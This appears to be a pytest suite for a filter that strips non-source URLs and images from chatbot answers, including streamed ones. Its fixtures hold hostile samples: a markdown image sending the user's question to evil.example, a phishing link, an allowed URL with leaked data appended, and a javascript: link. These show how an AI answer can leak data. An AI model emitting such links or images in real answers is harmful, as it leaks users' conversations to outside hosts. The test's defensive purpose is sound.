"""Answers carry no image and no URL their sources do not contain, streamed or final."""

from __future__ import annotations

import pytest

from chat.answering.links import REMOVED, LinkGuard, links_strip, urls_in

SOURCE = (
    "Download the app from https://ledgerly.example/download "
    "or read [the guide](https://docs.ledgerly.example/start)."
)
ALLOWED = urls_in([SOURCE])
HOSTILE = (
    "Get it at https://ledgerly.example/download [1]. "
    "![status](https://evil.example/c?q=how%20do%20I%20get%20a%20refund) "
    "More at [our docs](https://evil.example/phish) and "
    "https://ledgerly.example/download?leak=secret. "
    '<img src="https://evil.example/x.png"> '
    "See [the guide](https://docs.ledgerly.example/start) [1]."
)
EXPECTED = (
    "Get it at https://ledgerly.example/download [1]. "
    " "
    "More at our docs and " + REMOVED + ". "
    " "
    "See [the guide](https://docs.ledgerly.example/start) [1]."
)


def test_urls_in_the_sources_stay_and_everything_else_goes() -> None:
    assert links_strip(HOSTILE, ALLOWED) == EXPECTED


def test_images_go_even_when_their_url_is_in_a_source() -> None:
    allowed = urls_in(["![logo](https://ledgerly.example/logo.png)"])

    assert links_strip("Our logo: ![logo](https://ledgerly.example/logo.png)", allowed) == (
        "Our logo: "
    )


def test_an_allowed_address_with_data_appended_is_a_different_url() -> None:
    text = "See https://ledgerly.example/download?conversation=refund+for+jane"

    assert "jane" not in links_strip(text, ALLOWED)


def test_relative_links_and_citations_are_left_alone() -> None:
    text = (
        "Open [Settings](/settings/billing) and pay [2]. Protocols like javascript: are not links."
    )

    assert links_strip(text, frozenset()) == text


def test_javascript_and_protocol_relative_links_lose_their_target() -> None:
    text = "[click](javascript:alert(1)) and [there](//evil.example/x) and www.evil.example/y"

    stripped = links_strip(text, frozenset())

    assert "javascript" not in stripped and "evil.example" not in stripped
    assert stripped.startswith("click") and "there" in stripped


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 40])
def test_a_stream_cut_anywhere_shows_no_part_of_a_refused_url(size: int) -> None:
    guard = LinkGuard(ALLOWED)
    shown: list[str] = []
    for start in range(0, len(HOSTILE), size):
        shown.append(guard.feed(HOSTILE[start : start + size]))
    shown.append(guard.flush())

    assert "".join(shown) == EXPECTED
    assert not any("evil" in piece or "![" in piece or "leak=" in piece for piece in shown)
    assert sum(1 for piece in shown if piece) > 3, "still streamed, not held to the end"


def test_a_stream_of_plain_prose_is_not_held_back() -> None:
    guard = LinkGuard(frozenset())

    assert guard.feed("Refunds arrive within ") == "Refunds arrive within "
    assert guard.feed("5 business days [1]. ") == "5 business days [1]. "
